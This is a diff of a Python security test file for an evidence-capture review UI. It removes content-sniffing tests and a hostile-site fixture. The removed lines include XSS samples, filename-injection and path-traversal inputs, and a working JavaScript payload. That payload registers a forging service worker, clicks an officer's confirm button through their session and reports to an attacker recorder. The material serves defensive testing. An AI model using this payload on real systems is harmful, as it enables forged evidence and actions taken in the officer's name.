@@ -8,8 +8,6 @@ the page, and the UI's own policy forbids inline script, workers, plugins and fr
 
 from __future__ import annotations
 
-import hashlib
-import io
 import re
 import socket
 import threading
@@ -21,109 +19,22 @@ from typing import Any
 
 import pytest
 import uvicorn
-from PIL import Image
 from playwright.sync_api import Error as PlaywrightError
 from playwright.sync_api import sync_playwright
 from sqlalchemy import select
 
 from evidence.browser import CHROMIUM_ARGS
 from evidence.jobs import run_captures
-from evidence.manifest import Listed, build_manifest
-from evidence.recorder import Exchange
-from evidence.sniff import OCTET_STREAM, download_name, sniff
+from evidence.sniff import OCTET_STREAM
 from evidence.store import LocalArtifactStore
-from evidence.timestamp import request_timestamp
-from evidence.warc import build_wacz, build_warc
 from kuzet.models import Artifact, Capture, CaptureStatus, Detection, DetectionStatus
 from review.app import create_app
 from tests.factories import detection, officer, png_for
+from tests.hostile_site import EVIL_TYPE, PAYLOAD_TYPE, HostileSite, Recorder
 from tests.test_browser_review import served
-from tests.test_timestamp import TsaServer, make_tsa
-from tests.webserver import WebServer
 
 PASSWORD = "correct horse battery"
 TEMPLATES = Path(__file__).resolve().parent.parent / "review" / "templates"
-
-
-def _image(fmt: str) -> bytes:
-    out = io.BytesIO()
-    Image.new("RGB", (16, 9), (200, 30, 30)).save(out, format=fmt)
-    return out.getvalue()
-
-
-# ---------------------------------------------------------------- sniffing real bytes
-
-
-def test_allowlisted_images_are_the_only_inline_types() -> None:
-    for fmt, media in (("PNG", "image/png"), ("JPEG", "image/jpeg"), ("WEBP", "image/webp")):
-        got = sniff(_image(fmt), "screenshot_full")
-        assert (got.media_type, got.inline) == (media, True), fmt
-    hostile = {
-        "html": b"<!doctype html><html><script>alert(1)</script></html>",
-        "html after blanks": b"\n\n   <script>alert(1)</script>",
-        "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
-        "gif": _image("GIF"),
-        "bmp": _image("BMP"),
-        "script": b"navigator.serviceWorker.register('/x.js')",
-        "xml": b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml"/>',
-        "empty": b"",
-    }
-    for name, data in hostile.items():
-        for kind in ("response_body", "html_rendered", "screenshot_full", "warc", "manifest"):
-            got = sniff(data, kind)
-            assert (got.media_type, got.inline) == (OCTET_STREAM, False), (name, kind)
-
-
-def test_evidence_formats_are_downloads_recognised_by_bytes_and_kind(tmp_path) -> None:
-    page = Exchange(
-        url="http://127.0.0.1:9/",
-        status=200,
-        response_headers={"Content-Type": "image/x, text/html"},
-        body=b"<title>T</title><script>alert(1)</script>",
-    )
-    warc = build_warc([page], software="kuzet test", info={})
-    wacz = build_wacz(warc, url=page.url, at=page.at, title="T")
-    manifest = build_manifest(
-        capture_id=1,
-        url="http://127.0.0.1:9/",
-        artifacts=[Listed("warc", "application/warc", hashlib.sha256(warc).hexdigest(), 1)],
-        metadata={},
-        hits=[],
-    )
-    with TsaServer(make_tsa(tmp_path)) as tsa:
-        stamp = request_timestamp(manifest, tsa.url)
-    made = {
-        "pdf": (_image("PDF"), "application/pdf", ".pdf"),
-        "warc": (warc, "application/warc", ".warc.gz"),
-        "wacz": (wacz, "application/wacz+zip", ".wacz"),
-        "manifest": (manifest, "application/json", ".manifest.json"),
-        "timestamp": (stamp, "application/timestamp-reply", ".tsr"),
-    }
-    sha = "ab" * 32
-    for kind, (data, media, suffix) in made.items():
-        got = sniff(data, kind)
-        assert (got.media_type, got.inline) == (media, False), kind
-        assert download_name(sha, kind, got) == sha + suffix
-    # A page's body that is a zip, gzip, JSON or DER is still only bytes to kuzet.
-    for kind, (data, _, _) in made.items():
-        if kind != "pdf":
-            assert sniff(data, "response_body").media_type == OCTET_STREAM, kind
-    # Containers claimed for a kind their bytes do not have are bytes too.
-    assert sniff(b"PK\x03\x04 not a wacz", "warc").media_type == OCTET_STREAM
-    assert sniff(b"\x1f\x8b\x08 not gzip", "warc").media_type == OCTET_STREAM
-    assert sniff(b"[1, 2]", "manifest").media_type == OCTET_STREAM
-    assert sniff(stamp + b"<script>", "timestamp").media_type == OCTET_STREAM
-
-
-def test_download_names_are_kuzets_own() -> None:
-    sha = hashlib.sha256(b"x").hexdigest()
-    html = sniff("<p>Қазақ тілі</p>".encode(), "response_body")
-    assert download_name(sha, "response_body", html) == f"{sha}.response_body.txt"
-    binary = sniff(b"\x00\x01\x02", "response_body")
-    assert download_name(sha, "response_body", binary) == f"{sha}.response_body.bin"
-    assert download_name(sha, 'x"; filename="evil.html', html) == f"{sha}.txt"
-    with pytest.raises(ValueError):
-        download_name('../evil.html"', "response_body", html)
 
 
 def test_templates_carry_no_inline_script_handler_or_style() -> None:
@@ -136,83 +47,6 @@ def test_templates_carry_no_inline_script_handler_or_style() -> None:
 
 
 # ---------------------------------------------------------------- a hostile site, captured
-
-# Served as a script from the review UI's own origin (an evidence file), it would register
-# itself as a service worker over /evidence/ (forging every file shown afterwards), open
-# the detection in a window of the same origin and press its confirm button with the
-# officer's session, then report to the attacker's recorder. Only where it lands in the UI.
-PAYLOAD = """(function () {
-  var REC = %(rec)s, DET = %(det)d;
-  if (typeof window === "undefined") {
-    self.addEventListener("fetch", function (e) {
-      e.respondWith(new Response("<h1>forged</h1>", {headers: {"Content-Type": "text/html"}}));
-    });
-    return;
-  }
-  if (location.pathname.indexOf("/evidence/") !== 0) return;
-  var me = document.currentScript.src, notes = ["ran=1"];
-  var sw = navigator.serviceWorker.register(me).then(
-    function () { notes.push("sw=registered"); }, function () { notes.push("sw=refused"); });
-  var w = window.open("/detections/" + DET, "_blank"), tries = 0;
-  var confirmed = new Promise(function (resolve) {
-    var timer = setInterval(function () {
-      var button = null;
-      try { button = w.document.getElementById("confirm"); } catch (e) {}
-      if (button || ++tries > 100) {
-        clearInterval(timer);
-        if (button) { button.click(); notes.push("confirm=clicked"); }
-        resolve();
-      }
-    }, 100);
-  });
-  Promise.all([sw, confirmed]).then(function () {
-    setTimeout(function () { location.href = REC + "/ran?" + notes.join("&"); }, 1000);
-  });
-})();
-"""
-# The page an officer is asked to look at: declared an image, rendered as HTML by any
-# browser that believes the header; it loads the payload from the UI's own evidence URL.
-EVIL = """<!doctype html><html><head><meta charset="utf-8"><title>Казино</title></head>
-<body><p id="planted">Лучшее онлайн-казино, бонус 200%%!</p>
-<script src="/evidence/%(payload_sha)s"></script>
-<img src="%(rec)s/img-beacon"></body></html>
-"""
-EVIL_TYPE = "image/x, text/html"
-PAYLOAD_TYPE = "image/x, text/javascript"
-
-
-class Recorder(WebServer):
-    """The attacker's endpoint: every request that reaches it is a script that ran."""
-
-    def __init__(self) -> None:
-        self.reached = threading.Event()
-        super().__init__(lambda path, headers: (204, {}, b""))
-
-    def reply(self, path: str, headers: dict[str, str]) -> tuple[int, dict[str, str], bytes]:
-        self.reached.set()
-        return super().reply(path, headers)
-
-
-class HostileSite(WebServer):
-    """Answers ``/casino`` and ``/payload.js`` with crafted types, once told the UI's ids."""
-
-    def __init__(self, recorder: Recorder) -> None:
-        self.state: dict[str, Any] = {"rec": recorder.url, "det": 0}
-        super().__init__(self._route)
-
-    def payload(self) -> bytes:
-        return (PAYLOAD % {"rec": repr(self.state["rec"]), "det": self.state["det"]}).encode()
-
-    def evil(self) -> bytes:
-        sha = hashlib.sha256(self.payload()).hexdigest()
-        return (EVIL % {"payload_sha": sha, "rec": self.state["rec"]}).encode()
-
-    def _route(self, path: str, headers: dict[str, str]) -> tuple[int, dict[str, str], bytes]:
-        if path == "/casino":
-            return 200, {"Content-Type": EVIL_TYPE}, self.evil()
-        if path == "/payload.js":
-            return 200, {"Content-Type": PAYLOAD_TYPE}, self.payload()
-        return 404, {}, b"not found"
 
 
 @pytest.fixture
